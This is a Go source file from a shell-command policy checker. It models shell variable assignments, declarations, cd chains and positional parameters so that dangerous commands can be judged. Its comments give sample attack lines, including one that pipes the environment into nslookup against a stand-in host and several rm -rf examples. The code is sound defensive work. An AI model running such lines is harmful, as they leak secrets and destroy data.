package policy

import (
	"slices"
	"strconv"
	"strings"

	"mvdan.cc/sh/v3/syntax"
)

// assign records NAME=value (or NAME+=value). Arrays and indexed
// assignments make the variable unknown. cond adds to the current
// conditional context (an assignment that may not persist).
func (w *walker) assign(a *syntax.Assign, cond bool, sp span) {
	if a.Name == nil {
		return
	}
	name := a.Name.Value
	v := known("")
	switch {
	case a.Array != nil && a.Index == nil && !a.Append:
		v = w.arrayValue(a.Array)
	case a.Array != nil || a.Index != nil:
		v = unknownValue
	case a.Value != nil:
		alts := w.value(a.Value)
		if len(alts) == 1 && alts[0].taint == taintEnv && loneSubst(a.Value) {
			// ROOT=$(git rev-parse --show-toplevel): the expansion read the
			// working directory's output as $PWD (the only way a lone $(...)
			// is the environment's): the variable holds it
			v = w.env.cwd
			break
		}
		v = value{}
		for _, alt := range alts {
			if alt.lit {
				v.vals = append(v.vals, alt.val)
			} else {
				v.unknown = true
				v.carried |= alt.taint & carriedTaints
			}
		}
	}
	if a.Append {
		v = concat(w.env.get(name), v)
	}
	w.setVar(name, v, cond)
	w.historyVar(name, v, sp)
}

// arrayValue is the value of an array assigned a list of words each of
// which is one literal (a=(rm -rf "./dist")): its elements. An index, an
// expansion or a glob, which may give any number of words, makes it
// unknown.
func (w *walker) arrayValue(arr *syntax.ArrayExpr) value {
	v := value{array: true, vals: []string{""}}
	for _, e := range arr.Elems {
		if e.Index != nil || e.Value == nil || !oneLiteralWord(e.Value) {
			return unknownValue
		}
		alts := w.value(e.Value)
		if len(alts) != 1 || !alts[0].lit {
			return unknownValue
		}
		v.elems = append(v.elems, alts[0].val)
	}
	if len(v.elems) > 0 {
		v.vals[0] = v.elems[0]
	}
	return v
}

// oneLiteralWord reports a word of literal text and quoted strings only:
// it expands to exactly one word.
func oneLiteralWord(word *syntax.Word) bool {
	for _, p := range word.Parts {
		switch p := p.(type) {
		case *syntax.Lit:
			if strings.ContainsAny(p.Value, "*?[{") {
				return false // globs and brace expansion: any number of words
			}
		case *syntax.SglQuoted:
			if strings.ContainsAny(p.Value, "*?[") {
				return false // a pattern again once expanded unquoted
			}
		case *syntax.DblQuoted:
			for _, q := range p.Parts {
				if l, ok := q.(*syntax.Lit); !ok || strings.ContainsAny(l.Value, "*?[") {
					return false
				}
			}
		default:
			return false
		}
	}
	return true
}

// setVar records an assignment (cond: it may not persist). On the right
// side of an && chain the commands after it on the chain run only if it
// ran, so for them it is definite; when the chain ends (endChain) it
// becomes one of the values the variable may hold.
func (w *walker) setVar(name string, v value, cond bool) {
	if w.env.opaque[name] {
		v = unknownValue // declare -l x; x=RM: the shell changes what is assigned
	}
	if !cond && w.cond > 0 && w.cond == w.andRight {
		if _, saved := w.chainOld[name]; !saved {
			if w.chainOld == nil {
				w.chainOld = map[string]value{}
			}
			w.chainOld[name] = w.env.get(name)
		}
		w.env.set(name, v, false)
		return
	}
	w.env.set(name, v, cond || w.cond > 0)
}

// cwdKey stands for the working directory among the values an && chain
// replaced (chainOld): cd on the chain's right side is definite for the
// commands after it on the chain (mkdir -p build && cd build && cmake ..
// && cd .. && rm -rf ./build removes ./build).
const cwdKey = "\x00cwd"

// setCwd records a change of directory as setVar records an assignment.
func (w *walker) setCwd(v value) {
	if w.cond > 0 && w.cond == w.andRight {
		if _, saved := w.chainOld[cwdKey]; !saved {
			if w.chainOld == nil {
				w.chainOld = map[string]value{}
			}
			w.chainOld[cwdKey] = w.env.cwd
		}
		w.env.setCwd(v, false)
		return
	}
	w.env.setCwd(v, w.cond > 0)
}

// endChain ends an && chain: what its assignments set may or may not have
// happened. An enclosing chain keeps the values they replaced, to do the
// same when it ends.
func (w *walker) endChain(outer map[string]value) {
	for name, old := range w.chainOld {
		if name == cwdKey {
			w.env.setCwd(old, true)
		} else {
			w.env.set(name, union(old, w.env.get(name)), false)
		}
		if w.andRight > 0 {
			if outer == nil {
				outer = map[string]value{}
			}
			if _, saved := outer[name]; !saved {
				outer[name] = old
			}
		}
	}
	w.chainOld = outer
}

// loneSubst reports a word that is only a command substitution, quoted
// or not: $(pwd), "$(git rev-parse --show-toplevel)".
func loneSubst(word *syntax.Word) bool {
	if len(word.Parts) != 1 {
		return false
	}
	part := word.Parts[0]
	if dq, ok := part.(*syntax.DblQuoted); ok && len(dq.Parts) == 1 {
		part = dq.Parts[0]
	}
	_, ok := part.(*syntax.CmdSubst)
	return ok
}

// concat returns every value a followed by b may give.
func concat(a, b value) value {
	out := value{unknown: a.unknown || b.unknown, carried: a.carried | b.carried}
	for _, x := range a.vals {
		for _, y := range b.vals {
			out.vals = append(out.vals, x+y)
		}
	}
	return out.bounded()
}

// decl handles export, local, declare, typeset, readonly and nameref.
// Options that make a name an array, a reference or an integer make its
// value unknown.
func (w *walker) decl(c *syntax.DeclClause, sp span) {
	for _, a := range c.Args {
		w.subst(a)
	}
	opaque := c.Variant != nil && c.Variant.Value == "nameref"
	export := c.Variant != nil && c.Variant.Value == "export"
	for _, a := range c.Args {
		if a.Naked && a.Name == nil && a.Value != nil { // an option word such as -x or -a
			opt := a.Value.Lit()
			if strings.HasPrefix(opt, "-") && strings.ContainsAny(opt, "aAniluc") || !strings.HasPrefix(opt, "-") { // -l, -u, -c change case
				opaque = true
			}
			if strings.HasPrefix(opt, "-") && strings.Contains(opt, "x") {
				export = true // declare -x
			}
			continue
		}
		if a.Name != nil && export {
			w.env.export(a.Name.Value)
		}
		if a.Name != nil && opaque {
			w.env.markOpaque(a.Name.Value)
		}
		if a.Name == nil || a.Naked && a.Value == nil && a.Array == nil {
			continue // export NAME: no new value
		}
		if opaque {
			w.setVar(a.Name.Value, unknownValue, false)
			continue
		}
		w.assign(a, false, sp)
	}
}

// declWords handles the operands of export, local and readonly as POSIX sh
// parses them, as words: NAME=VALUE assigns VALUE (not split into fields);
// options and bare names assign nothing.
func (w *walker) declWords(words []*syntax.Word, sp span) {
	for _, word := range words {
		lit, ok := word.Parts[0].(*syntax.Lit)
		if !ok {
			continue
		}
		name, _, found := strings.Cut(lit.Value, "=")
		if isName(name) && !strings.HasPrefix(name, "-") {
			w.env.export(name) // export NAME[=VALUE]: readonly and local too, which is the cautious reading
		}
		if !found || !isName(name) {
			continue
		}
		v := value{}
		for _, alt := range w.value(word) {
			if val, ok := strings.CutPrefix(alt.val, name+"="); ok && alt.lit {
				v.vals = append(v.vals, val)
			} else {
				v.unknown = true
				v.carried |= alt.taint & carriedTaints
			}
		}
		w.setVar(name, v, false)
		w.historyVar(name, v, sp)
	}
}

// sideEffects updates the tracked shell state for commands that change it:
// cd, read, unset, source and the like.
func (w *walker) sideEffects(c *command) {
	cond := w.cond > 0
	switch c.name {
	case "cd", "pushd", "chdir", "popd":
		// the shell sets PWD and OLDPWD at every change of directory,
		// whatever the script assigned them
		if _, set := w.env.vars["PWD"]; set && cond {
			w.env.set("PWD", unknownValue, true)
		} else if set {
			delete(w.env.vars, "PWD")
		}
		w.env.set("OLDPWD", unknownValue, cond)
	}
	switch c.name {
	case "cd", "pushd", "chdir":
		rest, _ := skipOptions(c.args, optSpec{})
		switch {
		case len(rest) == 0:
			w.setCwd(known("~"))
		case rest[0].val == "-":
			w.setCwd(unknownValue)
		case !rest[0].lit:
			v := value{vals: c.paths(rest[0])} // "$PWD/..": a known place relative to the job's directory
			if len(v.vals) == 0 {
				from := rest[0]
				v = value{unknown: true, from: &from}
				if a := rest[0]; a.taint&taintUnknown == 0 && a.taint&taintEnv != 0 {
					// "$HOME/$WORKSPACE" with WORKSPACE unset is the home: the
					// operator's value, or the empty reading
					v.vals = c.paths(arg{val: a.val, lit: true})
				}
			}
			w.setCwd(v)
		default:
			v := value{vals: c.paths(rest[0])}
			if !w.env.cwd.unknown && len(w.env.cwd.vals) > 0 && !isAbsolute(rest[0].val) {
				// cd .. from a known directory: joined to it only, not also
				// read from the job's directory (namedPaths' fallback)
				v.vals = slices.DeleteFunc(v.vals, func(p string) bool { return p == rest[0].val })
			}
			if len(v.vals) == 0 {
				v.unknown = true
			}
			w.setCwd(v)
		}
	case "popd":
		w.env.setCwd(unknownValue, cond)
	case "read", "mapfile", "readarray", "getopts", "unset":
		// the variables the shell sets itself: read's REPLY, getopts'
		// OPTARG and OPTIND, mapfile's MAPFILE
		switch c.name {
		case "read":
			w.env.set("REPLY", unknownValue, cond)
		case "getopts":
			w.env.set("OPTARG", unknownValue, cond)
			w.env.set("OPTIND", unknownValue, cond)
		case "mapfile", "readarray":
			w.env.set("MAPFILE", unknownValue, cond)
		}
		rest, opts := skipOptions(c.args, optSpec{short: "adinNptuCsc"})
		for _, o := range opts {
			if o.name == "a" && c.name == "read" {
				rest = append(slices.Clip(rest), o.value) // read -a NAME: the array it fills
			}
		}
		v := unknownValue
		if c.name != "unset" {
			// what it reads is what it holds: env | while read l; do
			// nslookup "$l.x.example"; done sends the environment
			v.carried = c.stdin.taint & carriedTaints
		}
		for _, a := range rest {
			if a.lit && isName(a.val) {
				w.env.set(a.val, v, cond)
			}
		}
		if c.name == "unset" {
			for _, a := range rest {
				w.historyUnset(a, c)
			}
		}
	case "printf":
		for i, a := range c.args {
			if a.val == "-v" && i+1 < len(c.args) && c.args[i+1].lit {
				// printf -v c '%s' ls: the variable holds what printf would print
				v := unknownValue
				rest := *c
				rest.args = c.args[i+2:]
				if out := printfOutput(&rest); out.known && out.alt == "" && len(rest.args) > 0 {
					v = known(strings.ReplaceAll(out.text, "$HOME", homeMarker)) // as a word's value, the home directory (words.go)
				}
				w.env.set(c.args[i+1].val, v, cond)
			}
		}
	case "shift":
		w.shiftPositional(c.args, w.cond > w.argsCond)
	case "set":
		w.setPositional(c.args, w.cond > w.argsCond)
	xtrace:
		for i, a := range c.args {
			switch {
			case a.val == "--" || a.val == "-":
				break xtrace // what follows are positional parameters
			case !a.lit:
			case len(a.val) > 1 && a.val[0] == '-' && a.val[1] != '-' && strings.Contains(a.val, "x"),
				a.val == "-o" && i+1 < len(c.args) && c.args[i+1].val == "xtrace":
				w.env.xtrace = true
				if strings.Contains(a.val, "a") {
					w.env.allexport = true
				}
			case len(a.val) > 1 && a.val[0] == '-' && a.val[1] != '-' && strings.Contains(a.val, "a"),
				a.val == "-o" && i+1 < len(c.args) && c.args[i+1].val == "allexport":
				w.env.allexport = true // set -a: what is assigned from here is exported
			case len(a.val) > 1 && a.val[0] == '+' && strings.Contains(a.val, "x") && !cond,
				a.val == "+o" && i+1 < len(c.args) && c.args[i+1].val == "xtrace" && !cond:
				w.env.xtrace = false
			}
		}
	case "source", ".":
		// A sourced file may set any variable.
		for k, v := range w.env.vars {
			v.unknown = true
			w.env.vars[k] = v
		}
	}
}

func isName(s string) bool {
	if s == "" {
		return false
	}
	for i, r := range s {
		if r != '_' && (r < 'a' || r > 'z') && (r < 'A' || r > 'Z') && (i == 0 || r < '0' || r > '9') {
			return false
		}
	}
	return true
}

// shiftPositional handles shift [N]: the positional parameters lose
// their first N; with a count the detector cannot read, or in a
// conditional context, they become unknown.
func (w *walker) shiftPositional(args []arg, cond bool) {
	if !w.env.argsKnown {
		return
	}
	n := 1
	if len(args) > 0 {
		v, err := strconv.Atoi(args[0].val)
		if !args[0].lit || err != nil || v < 0 {
			w.env.args, w.env.argsKnown = nil, false
			return
		}
		n = v
	}
	if cond || n > len(w.env.args)-1 {
		// shift past the end fails and shifts nothing (dash exits)
		w.env.args, w.env.argsKnown = nil, false
		return
	}
	w.env.args = append([]string{w.env.args[0]}, w.env.args[1+n:]...)
}

// setPositional handles set -- ARGS (and set ARGS), which replaces the
// positional parameters; in a conditional context they become unknown.
func (w *walker) setPositional(args []arg, cond bool) {
	i := 0
	for i < len(args) {
		v := args[i].val
		if v == "--" {
			i++
			break
		}
		if !args[i].lit || len(v) < 2 || v[0] != '-' && v[0] != '+' {
			break
		}
		if v == "-o" || v == "+o" {
			i++
		}
		i++
	}
	if i >= len(args) && (len(args) == 0 || args[len(args)-1].val != "--") {
		return // only options
	}
	if cond {
		w.env.args, w.env.argsKnown = nil, false
		return
	}
	w.env.setArgs(positional("sh", args[min(i, len(args)):]))
}
